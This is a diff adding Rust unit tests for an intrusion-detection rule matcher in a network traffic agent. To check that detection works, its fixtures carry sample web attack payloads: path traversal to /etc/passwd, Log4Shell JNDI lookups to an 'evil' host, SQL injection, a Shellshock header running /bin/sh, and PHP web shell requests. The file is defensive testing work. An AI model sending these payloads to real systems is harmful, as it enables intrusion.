@@ -1,0 +1,465 @@
+use std::{
+    collections::BTreeSet,
+    net::SocketAddr,
+    time::{Duration, Instant},
+};
+
+use simple_dns::{CLASS, Name, Packet, Question, TYPE};
+
+use super::*;
+use crate::payload::{
+    excerpt::MAX_EXCERPT,
+    rules::{default_rules, parse_rules},
+};
+
+const CLIENT: &str = "198.51.100.7:40000";
+const SERVER: &str = "192.0.2.10:80";
+
+fn matcher(text: &str) -> Matcher {
+    let set = parse_rules(text, "t.rules");
+    assert_eq!(set.errors, vec![]);
+    Matcher::new(&set.rules).unwrap()
+}
+
+fn defaults() -> Matcher {
+    Matcher::new(&default_rules().rules).unwrap()
+}
+
+fn addr(s: &str) -> SocketAddr {
+    s.parse().unwrap()
+}
+
+fn tcp<'a>(src: &str, dst: &str, payload: &'a [u8]) -> Inspected<'a> {
+    Inspected::parse(Transport::Tcp, addr(src), addr(dst), payload)
+}
+
+fn http(payload: &[u8]) -> Inspected<'_> {
+    tcp(CLIENT, SERVER, payload)
+}
+
+fn dns_query(name: &str) -> Vec<u8> {
+    let mut packet = Packet::new_query(7);
+    packet.questions.push(Question::new(
+        Name::new_unchecked(name),
+        TYPE::A.into(),
+        CLASS::IN.into(),
+        false,
+    ));
+    packet.build_bytes_vec().unwrap()
+}
+
+fn sids(m: &Matcher, pkt: &Inspected<'_>) -> Vec<u32> {
+    let mut sids: Vec<u32> = m.matches(pkt).iter().map(|m| m.sid).collect();
+    sids.sort_unstable();
+    sids
+}
+
+#[test]
+fn curl_with_a_cmd_exe_user_agent_matches_sid_1000001() {
+    // What `curl -H "User-Agent: cmd.exe" http://192.0.2.10/` sends.
+    let payload =
+        b"GET / HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: cmd.exe\r\nAccept: */*\r\n\r\n";
+    let matches = defaults().matches(&http(payload));
+    let ua = matches
+        .iter()
+        .find(|m| m.sid == 1_000_001)
+        .expect("sid 1000001");
+    assert_eq!(ua.msg, "cmd.exe in User-Agent");
+    assert_eq!(ua.rev, 1);
+    assert_eq!(ua.classtype.as_deref(), Some("web-application-attack"));
+    assert_eq!(ua.priority, 1);
+    assert_eq!(ua.buffer, "http.user_agent");
+    assert_eq!(ua.offset, 0);
+    assert_eq!(ua.excerpt, "cmd.exe");
+    // The header-wide rule sees it too, with its context.
+    let header = matches
+        .iter()
+        .find(|m| m.sid == 1_000_002)
+        .expect("sid 1000002");
+    assert_eq!(header.buffer, "http.header");
+    assert!(
+        header.excerpt.contains("User-Agent: cmd.exe\\x0d\\x0a"),
+        "{}",
+        header.excerpt
+    );
+    assert_eq!(matches.len(), 2, "{matches:#?}");
+}
+
+#[test]
+fn default_rules_catch_the_usual_web_attacks_and_not_ordinary_requests() {
+    let m = defaults();
+    let cases: &[(&[u8], u32)] = &[
+        (b"GET /../../etc/passwd HTTP/1.1\r\n\r\n", 1_000_010),
+        (b"GET /a/%2e%2e%2fetc%2fpasswd HTTP/1.1\r\n\r\n", 1_000_012),
+        (b"GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n", 1_000_020),
+        (
+            b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://evil/a}\r\n\r\n",
+            1_000_021,
+        ),
+        (
+            b"GET /item.php?id=1+UNION+SELECT+password HTTP/1.1\r\n\r\n",
+            1_000_030,
+        ),
+        (
+            b"GET /login.php?user=admin%27%20or%201=1-- HTTP/1.1\r\n\r\n",
+            1_000_032,
+        ),
+        (b"GET /p?id=1%20and%20SLEEP(5) HTTP/1.1\r\n\r\n", 1_000_034),
+        (b"GET /p?id=%2527 HTTP/1.1\r\n\r\n", 1_000_040),
+        (b"GET /uploads/c99.php HTTP/1.1\r\n\r\n", 1_000_050),
+        (b"GET /shell.php?cmd=id HTTP/1.1\r\n\r\n", 1_000_056),
+        (
+            b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/sh -c id\r\n\r\n",
+            1_000_003,
+        ),
+        (
+            b"POST /x.php HTTP/1.1\r\n\r\n<?php eval(base64_decode('aWQ='));",
+            1_000_055,
+        ),
+    ];
+    for (payload, sid) in cases {
+        let got = sids(&m, &http(payload));
+        assert!(
+            got.contains(sid),
+            "{} → {got:?}, want {sid}",
+            String::from_utf8_lossy(payload)
+        );
+    }
+    let ordinary: &[&[u8]] = &[
+        b"GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\n\r\n",
+        b"GET /search?q=union+station+hours&lang=en HTTP/1.1\r\nHost: example.com\r\n\r\n",
+        b"POST /api/v1/items HTTP/1.1\r\nHost: example.com\r\nContent-Type: application/json\r\n\r\n{\"a\":1}",
+    ];
+    for payload in ordinary {
+        assert_eq!(
+            sids(&m, &http(payload)),
+            Vec::<u32>::new(),
+            "{}",
+            String::from_utf8_lossy(payload)
+        );
+    }
+}
+
+#[test]
+fn nocase_and_exact_contents() {
+    let m = matcher(
+        r#"alert tcp any any -> any any (content:"CMD.EXE"; nocase; sid:1;)
+alert tcp any any -> any any (content:"CMD.EXE"; sid:2;)
+alert tcp any any -> any any (content:"cmd.exe"; sid:3;)"#,
+    );
+    assert_eq!(sids(&m, &http(b"run cmd.exe now")), vec![1, 3]);
+    assert_eq!(sids(&m, &http(b"run CMD.EXE now")), vec![1, 2]);
+    assert_eq!(sids(&m, &http(b"run Cmd.Exe now")), vec![1]);
+    // An exact content found at its second, differently-cased occurrence.
+    assert_eq!(sids(&m, &http(b"CMD.EXE then cmd.exe")), vec![1, 2, 3]);
+}
+
+#[test]
+fn depth_and_offset_bound_where_a_content_may_be() {
+    let m = matcher(
+        r#"alert tcp any any -> any any (content:"GET"; offset:2; depth:3; sid:1;)
+alert tcp any any -> any any (content:"GET"; offset:3; sid:2;)
+alert tcp any any -> any any (content:"GET"; depth:4; sid:3;)
+alert tcp any any -> any any (content:"GET"; depth:5; sid:4;)
+alert tcp any any -> any any (content:"GET"; offset:6; sid:5;)"#,
+    );
+    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"xxGETyy")), vec![1, 4]);
+    // A later occurrence satisfies the offset the first one does not.
+    assert_eq!(
+        sids(&m, &tcp(CLIENT, SERVER, b"xxGETyyGET")),
+        vec![1, 2, 4, 5]
+    );
+}
+
+#[test]
+fn sticky_buffers_select_what_is_matched() {
+    let m = matcher(
+        r#"alert http any any -> any any (http.user_agent; content:"evil"; sid:1;)
+alert http any any -> any any (http.uri; content:"evil"; sid:2;)
+alert http any any -> any any (http.uri; content:"/a b"; sid:3;)
+alert http any any -> any any (http.uri.raw; content:"/a%20b"; sid:4;)
+alert http any any -> any any (http.host; content:"victim.example"; sid:5;)
+alert http any any -> any any (http.method; content:"POST"; depth:4; sid:6;)
+alert http any any -> any any (http.header; content:"X-Evil: 1|0d 0a|"; sid:7;)
+alert tcp any any -> any any (content:"evil"; sid:8;)
+alert dns any any -> any any (dns.query; content:"evil"; sid:9;)"#,
+    );
+    assert_eq!(sids(&m, &http(b"GET /evil HTTP/1.1\r\n\r\n")), vec![2, 8]);
+    assert_eq!(
+        sids(&m, &http(b"GET / HTTP/1.1\r\nUser-Agent: evil\r\n\r\n")),
+        vec![1, 8]
+    );
+    assert_eq!(sids(&m, &http(b"GET /a%20b HTTP/1.1\r\n\r\n")), vec![3, 4]);
+    assert_eq!(
+        sids(
+            &m,
+            &http(b"POST / HTTP/1.1\r\nHost: VICTIM.example:8080\r\nX-Evil: 1\r\n\r\n")
+        ),
+        vec![5, 6, 7]
+    );
+
+    let query = dns_query("evil.example.com");
+    let pkt = Inspected::parse(
+        Transport::Udp,
+        addr("10.0.0.2:5353"),
+        addr("10.0.0.1:53"),
+        &query,
+    );
+    let matches = m.matches(&pkt);
+    let got: Vec<_> = matches
+        .iter()
+        .map(|m| (m.sid, m.buffer, m.offset))
+        .collect();
+    // sid 8 is a tcp rule.
+    assert_eq!(got, vec![(9, "dns.query", 0)]);
+    assert_eq!(matches[0].excerpt, "evil.example.com");
+}
+
+#[test]
+fn every_content_of_a_rule_must_match() {
+    let m = matcher(
+        r#"alert http any any -> any any (http.method; content:"POST"; http.uri; content:".php"; http.header; content:"multipart"; nocase; sid:1;)"#,
+    );
+    let upload = b"POST /up.php HTTP/1.1\r\nContent-Type: Multipart/form-data\r\n\r\n";
+    let matches = m.matches(&http(upload));
+    assert_eq!(matches.len(), 1);
+    // The buffer and offset are those of the first content.
+    assert_eq!((matches[0].buffer, matches[0].offset), ("http.method", 0));
+    assert!(
+        m.matches(&http(
+            b"GET /up.php HTTP/1.1\r\nContent-Type: multipart/x\r\n\r\n"
+        ))
+        .is_empty()
+    );
+    assert!(
+        m.matches(&http(
+            b"POST /up.asp HTTP/1.1\r\nContent-Type: multipart/x\r\n\r\n"
+        ))
+        .is_empty()
+    );
+}
+
+#[test]
+fn protocols_addresses_ports_and_direction_filter_rules() {
+    let m = matcher(
+        r#"alert tcp any any -> any 80 (content:"x"; sid:1;)
+alert tcp any any -> any ![80,443] (content:"x"; sid:2;)
+alert tcp 198.51.100.0/24 any -> 192.0.2.10 any (content:"x"; sid:3;)
+alert tcp !198.51.100.0/24 any -> any any (content:"x"; sid:4;)
+alert tcp 192.0.2.10 80 <> 198.51.100.7 any (content:"x"; sid:5;)
+alert tcp any any -> any 1024: (content:"x"; sid:6;)
+alert udp any any -> any any (content:"x"; sid:7;)
+alert http any any -> any any (content:"x"; sid:8;)
+alert tcp 2001:db8::/32 any -> any any (content:"x"; sid:9;)"#,
+    );
+    assert_eq!(sids(&m, &tcp(CLIENT, SERVER, b"x")), vec![1, 3, 5]);
+    // The reply: only `<>` and the rules not tied to the client match.
+    assert_eq!(sids(&m, &tcp(SERVER, CLIENT, b"x")), vec![2, 4, 5, 6]);
+    assert_eq!(
+        sids(&m, &tcp("203.0.113.1:5000", "192.0.2.10:8080", b"x")),
+        vec![2, 4, 6]
+    );
+    assert_eq!(
+        sids(
+            &m,
+            &Inspected::parse(Transport::Udp, addr(CLIENT), addr(SERVER), b"x")
+        ),
+        vec![7]
+    );
+    assert_eq!(
+        sids(&m, &http(b"GET /x HTTP/1.1\r\n\r\n")),
+        vec![1, 3, 5, 8]
+    );
+    assert_eq!(
+        sids(&m, &tcp("[2001:db8::1]:5000", "[2001:db8::2]:22", b"x")),
+        vec![2, 4, 9]
+    );
+}
+
+#[test]
+fn overlapping_and_shared_contents_all_match() {
+    let m = matcher(
+        r#"alert tcp any any -> any any (content:"cmd"; sid:1;)
+alert tcp any any -> any any (content:"cmd.exe"; sid:2;)
+alert tcp any any -> any any (content:"md.e"; sid:3;)
+alert tcp any any -> any any (content:"cmd.exe"; nocase; sid:4;)
+alert tcp any any -> any any (content:"cmd"; content:"exe"; sid:5;)"#,
+    );
+    assert_eq!(
+        sids(&m, &tcp(CLIENT, SERVER, b"cmd.exe")),
+        vec![1, 2, 3, 4, 5]
+    );
+}
+
+#[test]
+fn results_are_ordered_by_priority_then_sid() {
+    let m = matcher(
+        r#"alert tcp any any -> any any (content:"a"; sid:5; priority:3;)
+alert tcp any any -> any any (content:"a"; sid:9; priority:1;)
+alert tcp any any -> any any (content:"a"; sid:2; priority:3;)"#,
+    );
+    let order: Vec<_> = m
+        .matches(&tcp(CLIENT, SERVER, b"a"))
+        .iter()
+        .map(|m| m.sid)
+        .collect();
+    assert_eq!(order, vec![9, 2, 5]);
+}
+
+#[test]
+fn excerpts_are_escaped_and_bounded() {
+    let m =
+        matcher(r#"alert http any any -> any any (http.user_agent; content:"<script>"; sid:1;)"#);
+    let payload = b"GET / HTTP/1.1\r\nUser-Agent: \x01\x02<script>alert(1)</script>\xff\r\n\r\n";
+    let matches = m.matches(&http(payload));
+    assert_eq!(matches[0].excerpt, r"\x01\x02<script>alert(1)</script>\xff");
+    assert_eq!(matches[0].offset, 2);
+
+    let long = [
+        b"GET / HTTP/1.1\r\nUser-Agent: ".to_vec(),
+        vec![0u8; 2000],
+        b"<script>".to_vec(),
+        vec![7u8; 2000],
+        b"\r\n\r\n".to_vec(),
+    ]
+    .concat();
+    let matches = m.matches(&http(&long));
+    assert!(matches[0].excerpt.len() <= MAX_EXCERPT);
+    assert!(matches[0].excerpt.contains("<script>"));
+    assert_eq!(matches[0].offset, 2000);
+}
+
+/// `n` rules over several buffers, some nocase, some sharing contents.
+fn generated_rules(n: usize) -> String {
+    let mut text = String::new();
+    for i in 0..n {
+        let sid = 2_000_000 + i;
+        let rule = match i % 5 {
+            0 => format!(r#"alert tcp any any -> any any (content:"tok{i:04}x"; sid:{sid};)"#),
+            1 => format!(
+                r#"alert http any any -> any any (http.uri; content:"/TOK{i:04}"; nocase; sid:{sid};)"#
+            ),
+            2 => format!(
+                r#"alert http any any -> any any (http.header; content:"X-T: tok{i:04}"; sid:{sid};)"#
+            ),
+            3 => format!(
+                r#"alert dns any any -> any any (dns.query; content:"tok{i:04}."; sid:{sid};)"#
+            ),
+            // Shares its content with the rule before the previous one
+            // (`i - 2` is a header rule when `i % 5 == 4`).
+            _ => format!(
+                r#"alert http any any -> any any (http.header; content:"X-T: tok{:04}"; http.uri; content:"/"; sid:{sid};)"#,
+                i - 2
+            ),
+        };
+        text.push_str(&rule);
+        text.push('\n');
+    }
+    text
+}
+
+#[test]
+fn a_thousand_rules_match_exactly_in_one_pass() {
+    let m = matcher(&generated_rules(1000));
+    assert_eq!(m.rules().len(), 1000);
+
+    // Raw payload with a few pkt_data tokens (i % 5 == 0), one in upper case
+    // (those rules are case-sensitive: no match).
+    let raw = b"xx tok0005x yy tok0500x TOK0010X tok0995x";
+    assert_eq!(
+        sids(&m, &tcp(CLIENT, "192.0.2.10:9999", raw)),
+        vec![2_000_005, 2_000_500, 2_000_995]
+    );
+
+    // HTTP: a nocase URI token, a header token shared by two rules, and the
+    // pkt_data rules see the raw request too.
+    let req = b"GET /tok0011/Tok0996 HTTP/1.1\r\nX-T: tok0002\r\nX-T: tok0997\r\n\r\ntok0100x";
+    let want: BTreeSet<u32> = [11, 996, 2, 4, 997, 999, 100]
+        .iter()
+        .map(|i| 2_000_000 + i)
+        .collect();
+    let got: BTreeSet<u32> = sids(&m, &http(req)).into_iter().collect();
+    assert_eq!(got, want);
+
+    let query = dns_query("tok0003.tok0998.example.com");
+    let pkt = Inspected::parse(
+        Transport::Udp,
+        addr("10.0.0.2:40000"),
+        addr("10.0.0.1:53"),
+        &query,
+    );
+    assert_eq!(sids(&m, &pkt), vec![2_000_003, 2_000_998]);
+}
+
+/// Run with `cargo test -p nta-agent --lib matcher_throughput -- --ignored --nocapture`.
+#[test]
+#[ignore = "a measurement, not a check"]
+fn matcher_throughput() {
+    let mut set = default_rules();
+    set.merge(parse_rules(&generated_rules(1000), "generated.rules"));
+    assert_eq!(set.errors, vec![]);
+    let m = Matcher::new(&set.rules).unwrap();
+
+    let queries: Vec<Vec<u8>> = [
+        "www.example.com",
+        "tok0003.cdn.example.net",
+        "x7f3k2j9q8w.tunnel.example.org",
+    ]
+    .iter()
+    .map(|n| dns_query(n))
+    .collect();
+    let mut raw = vec![0u8; 1200];
+    for (i, b) in raw.iter_mut().enumerate() {
+        *b = (i * 31 % 251) as u8;
+    }
+    let samples: Vec<(Transport, &str, &str, &[u8])> = vec![
+        (Transport::Tcp, CLIENT, SERVER, b"GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n"),
+        (Transport::Tcp, CLIENT, SERVER, b"GET /item.php?id=1+UNION+SELECT+password+FROM+users HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.8\r\n\r\n"),
+        (Transport::Tcp, CLIENT, SERVER, b"POST /api/v1/items HTTP/1.1\r\nHost: example.com\r\nContent-Type: application/json\r\nContent-Length: 120\r\n\r\n{\"name\":\"widget\",\"tags\":[\"a\",\"b\",\"c\"],\"price\":12.5,\"description\":\"an ordinary request body of moderate length\"}"),
+        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:53", &queries[0]),
+        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:53", &queries[1]),
+        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:53", &queries[2]),
+        (Transport::Tcp, "10.0.0.2:40000", "10.0.0.1:443", &raw),
+        (Transport::Udp, "10.0.0.2:40000", "10.0.0.1:4500", &raw[..400]),
+    ];
+    let samples: Vec<_> = samples
+        .into_iter()
+        .map(|(t, s, d, p)| (t, addr(s), addr(d), p))
+        .collect();
+
+    let measure = |parse: bool| {
+        let parsed: Vec<Inspected<'_>> = samples
+            .iter()
+            .map(|&(t, s, d, p)| Inspected::parse(t, s, d, p))
+            .collect();
+        let start = Instant::now();
+        let mut n = 0u64;
+        let mut hits = 0usize;
+        while start.elapsed() < Duration::from_secs(2) {
+            for (i, &(t, s, d, p)) in samples.iter().enumerate() {
+                hits += if parse {
+                    m.matches(&Inspected::parse(t, s, d, p)).len()
+                } else {
+                    m.matches(&parsed[i]).len()
+                };
+                n += 1;
+            }
+        }
+        (n as f64 / start.elapsed().as_secs_f64(), hits)
+    };
+    let (with_parse, hits) = measure(true);
+    let (match_only, _) = measure(false);
+    println!(
+        "matcher_throughput: {} rules, {} sample kinds, automata {} KiB: {with_parse:.0} samples/s \
+         parse+match, {match_only:.0} samples/s match only ({hits} matches)",
+        m.rules().len(),
+        samples.len(),
+        m.automata_bytes() / 1024
+    );
+    let big = Matcher::new(&parse_rules(&generated_rules(25_000), "big.rules").rules).unwrap();
+    println!(
+        "matcher_throughput: automata for {} generated rules: {} KiB",
+        big.rules().len(),
+        big.automata_bytes() / 1024
+    );
+}
